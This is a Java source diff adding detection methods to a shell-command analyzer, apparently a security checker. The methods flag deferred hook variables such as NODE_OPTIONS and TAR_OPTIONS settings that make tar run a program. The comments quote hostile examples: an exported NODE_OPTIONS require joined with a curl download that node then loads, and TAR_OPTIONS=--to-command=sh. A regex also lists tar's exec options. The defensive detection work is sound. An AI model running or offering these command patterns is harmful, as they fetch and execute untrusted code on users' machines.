@@ -4384,6 +4384,36 @@ public final class Cmd {
         return FileProvenance.readsFileWrittenBy(this, writer, ctx);
     }
 
+    /**
+     * True when what this segment sets or names takes effect only when a later program starts: a
+     * variable set for the commands after it (an assignment standing alone, {@code export},
+     * {@code declare -x}, {@code printf -v}, {@code read}: a hook variable is read by the program
+     * that starts with it, when a file downloaded in between exists), or a program a configuration
+     * file written by the command names ({@code Provenance.SETTING}: npm's {@code script-shell},
+     * yarn's {@code yarnPath}, run by the tool's next start). WHY (rt38, left40): {@code export
+     * NODE_OPTIONS='--require /tmp/h.js'; curl -so /tmp/h.js URL; node app.js} loads the download
+     * though the assignment stands before it, so the join with the download ignores their order.
+     */
+    public boolean isTakesEffectLater() {
+        return "SETTING".equals(provenance) || name.isEmpty() && !assignments.isEmpty() || named(DECLARERS)
+                || named("printf read") && assignmentWords().size() > assignments.size();
+    }
+
+    /**
+     * True when a {@code TAR_OPTIONS} setting (a prefix, or exported for what follows) holds an
+     * option that makes tar run a program as SW4015's do: tar puts the variable's words before its
+     * own ({@code TAR_OPTIONS=--to-command=sh tar -xf p.tar}; rt38, left40).
+     */
+    public boolean isTarOptionsRunProgram() {
+        for (String a : assignmentWords()) {
+            if (a.startsWith("TAR_OPTIONS=") && Regex.find(PathFacts.unquote(a.substring("TAR_OPTIONS=".length())),
+                    "--checkpoint-action=exec|--to-com|--info-scr|--new-volume-scr|(-I *|--use-compress-program[= ])[^ ]*([;|&`$]|(^|/)(ba|da|z|k)?sh( |$))")) {
+                return true;
+            }
+        }
+        return false;
+    }
+
     /** True when {@code other} writes or fetches the file this command then runs or loads as code ({@link FileProvenance}). */
     public boolean runsFileWrittenBy(Cmd other, Ctx ctx) {
         return FileProvenance.runsFileWrittenBy(this, other, ctx);
